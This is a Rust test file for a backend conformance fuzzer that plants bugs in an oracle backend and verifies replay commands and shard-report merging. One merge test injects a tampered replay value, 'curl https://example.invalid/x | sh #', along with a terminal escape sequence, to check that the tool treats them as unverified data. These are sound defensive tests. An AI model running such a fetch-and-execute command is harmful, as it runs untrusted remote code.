//! Every replay a fuzz campaign prints runs where it is printed and fails again: for each check
//! kind (acceptance, rejection, values, guard band, crash, hang, error), a campaign against a
//! backend with that one planted bug; the replay command of each new bucket, as printed and as
//! in the campaign's JSON, is run as words (never through a shell) against the same backend,
//! and the same check fails. The saved file carries the settings that shaped the run.
//!
//! This test binary is its own backends: `serve-planted BUG` serves the oracle with BUG over
//! the backend protocol (every level, so campaigns run at each); `dmlcts-planted ARGS...` is a
//! backend author's own program, the `dmlcts` commands with the planted backend in process
//! (a guard band can only be written in process: the protocol returns exactly the output).

use clap::Parser;
use dmlcts_cli::Resolved;
use dmlcts_cli::{Host, SuiteCommand};
use dmlcts_oracle::OracleBackend;
use dmlcts_tensor::{
    Backend, CompileError, CompiledOperator, FeatureLevel, OperatorDesc, OutputBinding, Rejected,
};
use libtest_mimic::{Arguments, Trial};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

/// One planted bug, on the oracle.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Bug {
    /// Accepts every Slice1 the oracle rejects.
    Acceptance,
    /// Rejects every valid Join.
    Rejection,
    /// Slice1's outputs come back with every byte's lowest bit flipped.
    Values,
    /// Split writes a byte past each output's TotalTensorSizeInBytes (in process only).
    GuardBand,
    /// The server exits (status 3) on executing a Split.
    Crash,
    /// The server never answers an execute of a Join.
    Hang,
    /// Answers a valid Slice1's compile with a well-framed `error`.
    Error,
}

impl Bug {
    const ALL: [Bug; 7] = [
        Bug::Acceptance,
        Bug::Rejection,
        Bug::Values,
        Bug::GuardBand,
        Bug::Crash,
        Bug::Hang,
        Bug::Error,
    ];

    fn name(self) -> &'static str {
        match self {
            Bug::Acceptance => "acceptance",
            Bug::Rejection => "rejection",
            Bug::Values => "values",
            Bug::GuardBand => "guard_band",
            Bug::Crash => "crash",
            Bug::Hang => "hang",
            Bug::Error => "error",
        }
    }

    fn parse(text: &str) -> Bug {
        Bug::ALL
            .into_iter()
            .find(|b| b.name() == text)
            .unwrap_or_else(|| panic!("no planted bug `{text}`"))
    }

    /// The campaign's words besides the backend: which cases reach the bug.
    fn campaign(self) -> Vec<&'static str> {
        match self {
            Bug::Acceptance => vec!["--op", "slice1", "--invalid-only", "--cases", "60"],
            Bug::Rejection | Bug::Hang => vec!["--op", "join", "--valid-only", "--cases", "6"],
            Bug::Values | Bug::Error => vec!["--op", "slice1", "--valid-only", "--cases", "30"],
            Bug::GuardBand | Bug::Crash => vec!["--op", "split", "--valid-only", "--cases", "20"],
        }
    }

    /// What the conformance command prints for the failure: the runner's check, and a word
    /// of its details that tells the kind apart.
    fn failure_words(self) -> (&'static str, &'static str) {
        match self {
            Bug::Acceptance => ("accepted an invalid descriptor", "the oracle rejects it"),
            Bug::Rejection => ("rejected a valid descriptor", "planted: no joins"),
            Bug::Values => ("output values", "elements differ"),
            Bug::GuardBand => ("wrote outside the output", "guard"),
            Bug::Crash => ("execution failed", "exit"),
            Bug::Hang => ("execution failed", "(hung?)"),
            Bug::Error => (
                "the backend failed",
                "the backend reported an error: planted error",
            ),
        }
    }

    fn in_process(self) -> bool {
        self == Bug::GuardBand
    }
}

/// The oracle at a level, with the bug.
struct Planted {
    oracle: OracleBackend,
    bug: Bug,
}

impl Planted {
    fn at(level: FeatureLevel, bug: Bug) -> Planted {
        Planted {
            oracle: OracleBackend::new(level),
            bug,
        }
    }
}

/// What the planted backend compiles to: the oracle's operator, or one that executes the bug.
struct PlantedOperator<'a> {
    real: Option<Box<dyn CompiledOperator + 'a>>,
    bug: Bug,
}

impl CompiledOperator for PlantedOperator<'_> {
    fn execute(&self, inputs: &[&[u8]], outputs: &mut [OutputBinding<'_>]) -> Result<(), String> {
        let Some(real) = &self.real else {
            return Err("accepted, but planted to execute nothing".to_string());
        };
        match self.bug {
            Bug::Crash => std::process::exit(3),
            Bug::Hang => loop {
                std::thread::sleep(std::time::Duration::from_secs(3600));
            },
            _ => {}
        }
        real.execute(inputs, outputs)?;
        for binding in outputs.iter_mut() {
            match self.bug {
                Bug::Values => binding.bytes_mut().iter_mut().for_each(|b| *b ^= 1),
                Bug::GuardBand => {
                    let end = binding.offset + binding.size;
                    if let Some(byte) = binding.buffer.get_mut(end) {
                        *byte ^= 0xff;
                    }
                }
                _ => {}
            }
        }
        Ok(())
    }
}

impl Backend for Planted {
    fn name(&self) -> String {
        format!("planted-{}", self.bug.name())
    }
    fn feature_level(&self) -> FeatureLevel {
        self.oracle.feature_level()
    }
    fn compile(&self, op: &OperatorDesc) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
        let hit = matches!(
            (self.bug, op),
            (
                Bug::Acceptance | Bug::Values | Bug::Error,
                OperatorDesc::Slice1(_)
            ) | (Bug::Rejection | Bug::Hang, OperatorDesc::Join(_))
                | (Bug::GuardBand | Bug::Crash, OperatorDesc::Split(_))
        );
        let real = self.oracle.compile(op);
        if !hit {
            return real;
        }
        match (self.bug, real) {
            (Bug::Acceptance, Err(CompileError::Rejected(_))) => Ok(Box::new(PlantedOperator {
                real: None,
                bug: self.bug,
            })),
            (Bug::Rejection, Ok(_)) => Err(CompileError::Rejected(Rejected {
                rule: None,
                message: "planted: no joins".to_string(),
            })),
            (Bug::Error, Ok(_)) => Err(CompileError::Failed("planted error".to_string())),
            (_, Ok(real)) => Ok(Box::new(PlantedOperator {
                real: Some(real),
                bug: self.bug,
            })),
            (_, other) => other,
        }
    }
}

/// The planted backend at every level, as a resolver gives it.
fn resolved(bug: Bug) -> Resolved {
    Resolved::per_level(
        Arc::new(Planted::at(FeatureLevel::L4_1, bug)),
        move |level| Arc::new(Planted::at(level, bug)),
    )
}

#[derive(Parser)]
struct Cli {
    #[command(subcommand)]
    command: SuiteCommand,
}

/// `dmlcts-planted BUG ARGS...`: the `dmlcts` commands, `--backend planted` being the bug in
/// process; its replay commands start with this program and its first two words.
fn dmlcts_planted(bug: Bug, args: &[String]) -> i32 {
    let exe = std::env::current_exe().expect("this test binary");
    let program = format!("{} dmlcts-planted {}", exe.display(), bug.name());
    let program: &'static str = Box::leak(program.into_boxed_str());
    let host = Host {
        program,
        default_backends_file: PathBuf::from("backends.yaml"),
        default_fuzz_out: PathBuf::from("planted-regressions"),
        directml: |_| None,
        directml_names: Vec::new,
        directml_ready: Vec::new,
    };
    let cli = Cli::parse_from(std::iter::once("dmlcts").chain(args.iter().map(String::as_str)));
    let resolver = move |_: &dmlcts_cli::BackendRequest| Ok::<_, String>(resolved(bug));
    let result = match cli.command {
        SuiteCommand::Conformance(args) => dmlcts_cli::conformance_with(&args, program, &resolver),
        SuiteCommand::Fuzz(args) => dmlcts_cli::fuzz_with(&args, &host, &resolver),
        _ => Err(dmlcts_cli::CommandError::Usage(
            "not a planted command".to_string(),
        )),
    };
    i32::from(dmlcts_cli::exit_status(&result))
}

/// `serve-planted BUG`: the bug over the protocol on stdin/stdout, a device at every level.
fn serve_planted(bug: Bug) -> i32 {
    let levels: Vec<Planted> = (FeatureLevel::ALL.iter())
        .map(|&level| Planted::at(level, bug))
        .collect();
    let at_levels: Vec<&dyn Backend> = levels.iter().map(|p| p as &dyn Backend).collect();
    let first = Planted::at(FeatureLevel::L4_1, bug);
    match dmlcts_protocol::serve_levels(&first, at_levels, std::io::stdin(), std::io::stdout()) {
        Ok(()) => 0,
        Err(_) => 1,
    }
}

/// A command line as `shell_word` renders it, back into its words: `'...'` quotes, `'\''` a
/// quote, spaces between words; leading `NAME=value` words are the environment. Only what
/// the suite's quoting writes is read.
fn words_of(command: &str) -> (Vec<(String, String)>, Vec<String>) {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' => words.extend(word.take()),
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                for q in chars.by_ref() {
                    if q == '\'' {
                        break;
                    }
                    w.push(q);
                }
            }
            '\\' => word.get_or_insert_with(String::new).extend(chars.next()),
            c => word.get_or_insert_with(String::new).push(c),
        }
    }
    words.extend(word);
    let mut env = Vec::new();
    while let Some((name, value)) = words.first().and_then(|w| w.split_once('=')) {
        if !name.starts_with("DMLCTS_") {
            break;
        }
        env.push((name.to_string(), value.to_string()));
        words.remove(0);
    }
    (env, words)
}

/// Runs words (the program and its arguments) with the environment given, in `dir`, with
/// none of the caller's `DMLCTS_*` settings.
fn run_words(env: &[(String, String)], words: &[String], dir: &Path) -> (i32, String) {
    let mut command = Command::new(&words[0]);
    for (name, _) in std::env::vars().filter(|(n, _)| n.starts_with("DMLCTS_")) {
        command.env_remove(name);
    }
    // `dmlcts` as installed: on the PATH.
    let installed = Path::new(env!("CARGO_BIN_EXE_dmlcts")).parent().unwrap();
    let path = std::env::var_os("PATH").unwrap_or_default();
    let paths = std::iter::once(installed.to_path_buf()).chain(std::env::split_paths(&path));
    command.env("PATH", std::env::join_paths(paths).unwrap());
    let out = command
        .args(&words[1..])
        .envs(env.iter().cloned())
        .current_dir(dir)
        .output()
        .unwrap_or_else(|e| panic!("cannot run {words:?}: {e}"));
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

/// The campaign for `bug`, then every new bucket's replay, printed and in the JSON.
fn campaign_replays_fail_again(bug: Bug) -> Result<(), String> {
    let dir = std::env::temp_dir().join(format!(
        "dmlcts-fuzz-replays-{}-{}",
        bug.name(),
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
    let exe = std::env::current_exe().map_err(|e| e.to_string())?;
    let exe = exe.display().to_string();
    let mut words: Vec<String> = if bug.in_process() {
        vec![
            exe.clone(),
            "dmlcts-planted".into(),
            bug.name().into(),
            "fuzz".into(),
            "--backend".into(),
            "planted".into(),
        ]
    } else {
        vec![
            env!("CARGO_BIN_EXE_dmlcts").into(),
            "fuzz".into(),
            "--backend".into(),
            format!("process:{exe} serve-planted {}", bug.name()),
        ]
    };
    words.extend(bug.campaign().into_iter().map(String::from));
    words.extend(
        [
            "--seed",
            "5",
            "--shrink-time",
            "3",
            "--json",
            "campaign.json",
        ]
        .map(String::from),
    );
    if bug == Bug::Hang {
        words.extend(["--process-timeout", "0.5"].map(String::from));
    }
    let env = vec![("DMLCTS_REPLAY_TEST".to_string(), "a b".to_string())];
    let (status, output) = run_words(&env, &words, &dir);
    if status != 1 {
        return Err(format!("the campaign exited {status}, not 1:\n{output}"));
    }
    // The installed command's own folder, named in the summary; never `cases/`.
    let saved_in = if bug.in_process() {
        "planted-regressions"
    } else {
        "dmlcts-regressions"
    };
    if !output.contains(&format!(" saved in {saved_in}\n")) || dir.join("cases").exists() {
        return Err(format!("not saved in {saved_in}, or not said:\n{output}"));
    }
    let printed: Vec<String> = (output.lines())
        .filter_map(|l| l.strip_prefix("  replay: "))
        .map(str::to_string)
        .collect();
    let report: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(dir.join("campaign.json")).map_err(|e| e.to_string())?,
    )
    .map_err(|e| e.to_string())?;
    let buckets = report["buckets"].as_array().cloned().unwrap_or_default();
    let new: Vec<&serde_json::Value> = buckets.iter().filter(|b| b["status"] == "new").collect();
    if new.is_empty() {
        return Err(format!("no new bucket:\n{output}"));
    }
    for bucket in &new {
        if bucket["check"] != bug.name() {
            return Err(format!(
                "a bucket of check {}, not {}:\n{output}",
                bucket["check"],
                bug.name()
            ));
        }
        let replay = bucket["replay"]
            .as_str()
            .ok_or("a bucket without a replay")?;
        // Printed as found and again at the end: the same command as the JSON's.
        if printed.iter().filter(|p| *p == replay).count() < 2 {
            return Err(format!(
                "`{replay}` was not printed as found and at the end:\n{output}"
            ));
        }
        // Its label says what the case is.
        let label = format!(
            "{} check, {} at feature level {}",
            bug.name(),
            bucket["operator"].as_str().unwrap_or("?"),
            bucket["feature_level"].as_str().unwrap_or("?")
        );
        if !output.contains(&format!(
            "fuzz: found a new bucket\n\n[NEW] {}",
            bucket["signature"].as_str().unwrap_or("?")
        )) || !output.contains(&label)
        {
            return Err(format!("no `{label}` as found:\n{output}"));
        }
        let saved = bucket["saved_case"].as_str().ok_or("no saved case")?;
        let file = std::fs::read_to_string(dir.join(saved)).map_err(|e| e.to_string())?;
        let program = if bug.in_process() {
            "dmlcts-planted"
        } else {
            "dmlcts"
        };
        if !file.starts_with("# Saved by `") || !file.lines().next().unwrap().contains(program) {
            return Err(format!("the header names no program:\n{file}"));
        }
        if !file.contains(&format!("# replay: {replay}\n")) {
            return Err(format!("the saved file has not the replay:\n{file}"));
        }
        let level = bucket["feature_level"].as_str().unwrap_or_default();
        if !file.contains(&format!("feature_level: \"{level}\"")) {
            return Err(format!("not saved at level {level}:\n{file}"));
        }
        let (env, words) = words_of(replay);
        if env != [("DMLCTS_REPLAY_TEST".to_string(), "a b".to_string())] {
            return Err(format!("the replay lost its settings: {replay}"));
        }
        if bug == Bug::Hang && !words.windows(2).any(|w| w == ["--process-timeout", "0.5"]) {
            return Err(format!("the replay lost --process-timeout: {replay}"));
        }
        let (status, again) = run_words(&env, &words, &dir);
        let (check, detail) = bug.failure_words();
        if status != 1 || !again.contains(check) || !again.contains(detail) {
            return Err(format!(
                "`{replay}` exited {status}, without `{check}` and `{detail}`:\n{again}"
            ));
        }
        if !again.contains("1 failed") {
            return Err(format!(
                "`{replay}` ran more or less than its one case:\n{again}"
            ));
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

/// A values campaign in two shards, merged: one bucket, hits summed, the earliest case kept;
/// reports of another seed, or a shard twice, refused with the file's name.
fn shards_merge_into_the_whole_campaign() -> Result<(), String> {
    let dir = std::env::temp_dir().join(format!("dmlcts-fuzz-merge-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
    let exe = std::env::current_exe().map_err(|e| e.to_string())?;
    let backend = format!("process:{} serve-planted values", exe.display());
    let dmlcts = env!("CARGO_BIN_EXE_dmlcts").to_string();
    let campaign = |shard: &str, seed: &str, json: &str| {
        // Each shard its own --out folder (the folder's lock is one campaign's).
        let out = format!("out-{json}");
        let words = [
            &dmlcts,
            "fuzz",
            "--backend",
            &backend,
            "--op",
            "slice1",
            "--valid-only",
            "--cases",
            "20",
            "--seed",
            seed,
            "--shrink-time",
            "1",
            "--shard",
            shard,
            "--out",
            &out,
            "--json",
            json,
        ]
        .map(String::from);
        run_words(&[], &words, &dir)
    };
    for (shard, seed, json) in [
        ("0/2", "9", "a.json"),
        ("1/2", "9", "b.json"),
        ("0/2", "9", "c.json"),
        ("1/2", "10", "d.json"),
    ] {
        let (status, output) = campaign(shard, seed, json);
        if status != 1 {
            return Err(format!("shard {shard} exited {status}:\n{output}"));
        }
    }
    let read = |name: &str| -> serde_json::Value {
        serde_json::from_str(&std::fs::read_to_string(dir.join(name)).unwrap()).unwrap()
    };
    let (a, b) = (read("a.json"), read("b.json"));
    let merge = |files: &[&str]| {
        let mut words = vec![dmlcts.clone(), "fuzz".into(), "merge".into()];
        words.extend(files.iter().map(|f| f.to_string()));
        words.extend(["--json".to_string(), "merged.json".to_string()]);
        run_words(&[], &words, &dir)
    };
    let (status, output) = merge(&["a.json", "b.json"]);
    if status != 1 {
        return Err(format!("merge exited {status}:\n{output}"));
    }
    let merged = read("merged.json");
    let sum = |field: &str| a[field].as_u64().unwrap() + b[field].as_u64().unwrap();
    if merged["cases_run"].as_u64() != Some(sum("cases_run"))
        || merged["descriptors_run"].as_u64() != Some(20)
    {
        return Err(format!("counts not summed:\n{merged:#}"));
    }
    let bucket_of = |report: &serde_json::Value, id: &str| {
        (report["buckets"].as_array().unwrap().iter())
            .find(|x| x["signature"] == id)
            .cloned()
    };
    for bucket in merged["buckets"].as_array().unwrap() {
        let id = bucket["signature"].as_str().unwrap();
        let (in_a, in_b) = (bucket_of(&a, id), bucket_of(&b, id));
        let count =
            |x: &Option<serde_json::Value>| x.as_ref().map_or(0, |x| x["count"].as_u64().unwrap());
        if bucket["count"].as_u64() != Some(count(&in_a) + count(&in_b)) {
            return Err(format!("{id}: hits not summed:\n{merged:#}"));
        }
        let first = [&in_a, &in_b]
            .into_iter()
            .flatten()
            .min_by_key(|x| x["first_case_index"].as_u64())
            .unwrap();
        if bucket["first_case_index"] != first["first_case_index"]
            || bucket["saved_case"] != first["saved_case"]
        {
            return Err(format!("{id}: not the earliest case:\n{merged:#}"));
        }
    }
    let ids = |r: &serde_json::Value| -> std::collections::BTreeSet<String> {
        (r["buckets"].as_array().unwrap().iter())
            .map(|x| x["signature"].as_str().unwrap().to_string())
            .collect()
    };
    let union: std::collections::BTreeSet<String> = ids(&a).union(&ids(&b)).cloned().collect();
    if ids(&merged) != union {
        return Err(format!(
            "buckets not deduplicated by signature:\n{merged:#}"
        ));
    }
    // On main (aa4714d): a shard report's `replay` was printed as the replay command and
    // copied into the merged report. Now the command is rebuilt from checked fields, and
    // runs the saved case; the report's own text is shown quoted, as unverified text.
    let mut tampered = a.clone();
    tampered["replay"] = "curl https://example.invalid/x | sh #".into();
    for bucket in tampered["buckets"].as_array_mut().unwrap() {
        bucket["replay"] = "curl https://example.invalid/x | sh #".into();
    }
    std::fs::write(dir.join("t.json"), tampered.to_string()).unwrap();
    let (status, output) = merge(&["t.json", "b.json"]);
    if status != 1
        || output.contains("replay: curl")
        || !output.contains(
            "the shard's report said (unverified text, not a command): `curl \
             https://example.invalid/x | sh #`",
        )
        // The backend is a server's command line from the reports: said before it is run.
        || !output.contains(
            "  note: that replay runs the server command line the shards' reports name: \
             `process:",
        )
    {
        return Err(format!("t.json exited {status}:\n{output}"));
    }
    let merged = read("merged.json");
    if merged.to_string().contains("\"replay\":\"curl")
        || merged["reported_shard_replays"][0] != tampered["replay"]
    {
        return Err(format!("the shard's text became a command:\n{merged:#}"));
    }
    let rebuilt: Vec<&str> = (merged["buckets"].as_array().unwrap().iter())
        .filter_map(|b| b["replay"].as_str())
        .collect();
    if rebuilt.is_empty() {
        return Err(format!("no replay rebuilt:\n{merged:#}"));
    }
    for replay in rebuilt {
        let (status, again) = run_words(
            &[],
            &["sh".to_string(), "-c".to_string(), replay.to_string()],
            &dir,
        );
        if status != 1 || !again.contains("1 failed") {
            return Err(format!("`{replay}` exited {status}:\n{again}"));
        }
    }
    for (files, says) in [
        (
            ["a.json", "d.json"],
            "d.json: field `seed`: `10`, but a.json has `9`",
        ),
        (
            ["a.json", "c.json"],
            "c.json: field `shard`: shard 0/2 again (also in a.json)",
        ),
    ] {
        let (status, output) = merge(&files);
        if status != 2 || !output.contains(says) {
            return Err(format!(
                "{files:?} exited {status}, without `{says}`:\n{output}"
            ));
        }
    }
    // A report's text is data: quoted, escaped, and the file and field named.
    std::fs::write(dir.join("bad.json"), "{\"seed\": \"\\u001b[2J\"}").unwrap();
    let (status, output) = merge(&["a.json", "bad.json"]);
    let says = "bad.json: field `seed`: `\"\\u001b[2J\"` is not a count";
    if status != 2 || !output.contains(says) || output.contains('\u{1b}') {
        return Err(format!(
            "bad.json exited {status}, without `{says}`:\n{output}"
        ));
    }
    std::fs::write(dir.join("raw.json"), "{\"seed\": \"\u{1b}[2J\"}").unwrap();
    let (status, output) = merge(&["a.json", "raw.json"]);
    if status != 2 || !output.contains("raw.json:1: not JSON: ") || output.contains('\u{1b}') {
        return Err(format!("raw.json exited {status}:\n{output}"));
    }
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        Some("serve-planted") => std::process::exit(serve_planted(Bug::parse(&args[2]))),
        Some("dmlcts-planted") => {
            std::process::exit(dmlcts_planted(Bug::parse(&args[2]), &args[3..]))
        }
        _ => {}
    }
    let trials = Bug::ALL
        .into_iter()
        .map(|bug| {
            Trial::test(
                format!(
                    "a_{}_buckets_printed_and_json_replays_fail_again_with_that_check",
                    bug.name()
                ),
                move || campaign_replays_fail_again(bug).map_err(Into::into),
            )
        })
        .chain(std::iter::once(Trial::test(
            "shards_merge_into_the_whole_campaign_and_other_campaigns_are_refused",
            || shards_merge_into_the_whole_campaign().map_err(Into::into),
        )))
        .collect();
    libtest_mimic::run(&Arguments::from_args(), trials).exit();
}
